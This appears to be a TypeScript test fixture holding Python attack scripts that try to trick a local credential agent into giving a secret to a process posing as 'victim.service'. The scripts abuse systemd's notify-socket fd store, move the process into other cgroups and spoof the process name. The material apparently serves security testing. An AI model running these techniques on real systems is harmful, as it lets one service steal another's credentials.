import { mark } from "./refreshing.ts";

/** What an attacker's Python does with the agent's answer to the socket `ask`: says whether a secret is in it. */
export const tellAnswer = (secret: string): string => `answer = b""
while True:
    part = ask.recv(65536)
    if not part:
        break
    answer += part
print("answered", len(answer), "secret" if b"${secret}" in answer else "no secret", flush=True)`;

/** Asks in the name of victim.service once there is /run/now, in the ways that its argument names. */
export const attack = String.raw`import array, os, socket, sys, time
ways = sys.argv[1].split(",")
def notify(text, *descriptors):
    to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    to.connect(os.environ["NOTIFY_SOCKET"])
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))]
    to.sendmsg([text], rights if descriptors else [])
ask = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
ask.bind(b"\0" + os.urandom(8).hex().encode() + b"/unit/victim.service/CF_TOKEN")
# PID 1 has it then, and so has whatever PID 1 forks.
if "stored" in ways:
    notify(b"FDSTORE=1\nFDPOLL=0\nFDNAME=asks", ask.fileno())
if "init" in ways:
    for place in ("/sys/fs/cgroup/init.scope", "/sys/fs/cgroup/system.slice/victim.service"):
        if "unit" not in ways and "victim" in place:
            continue
        with open(place + "/cgroup.procs", "w") as group:
            group.write(str(os.getpid()))
        print("group", open("/proc/self/cgroup").read().split(), flush=True)
if "name" in ways:
    with open("/proc/self/comm", "w") as comm:
        comm.write("(sd-refresh-cre")
print("ready", flush=True)
while not os.path.exists("/run/now"):
    time.sleep(0.02)
if "removed" in ways:
    notify(b"FDSTOREREMOVE=1\nFDNAME=asks")
    time.sleep(0.5)
ask.connect("/run/sealaunch/agent.sock")
ask.shutdown(socket.SHUT_WR)
${tellAnswer(mark)}
time.sleep(600)
`;
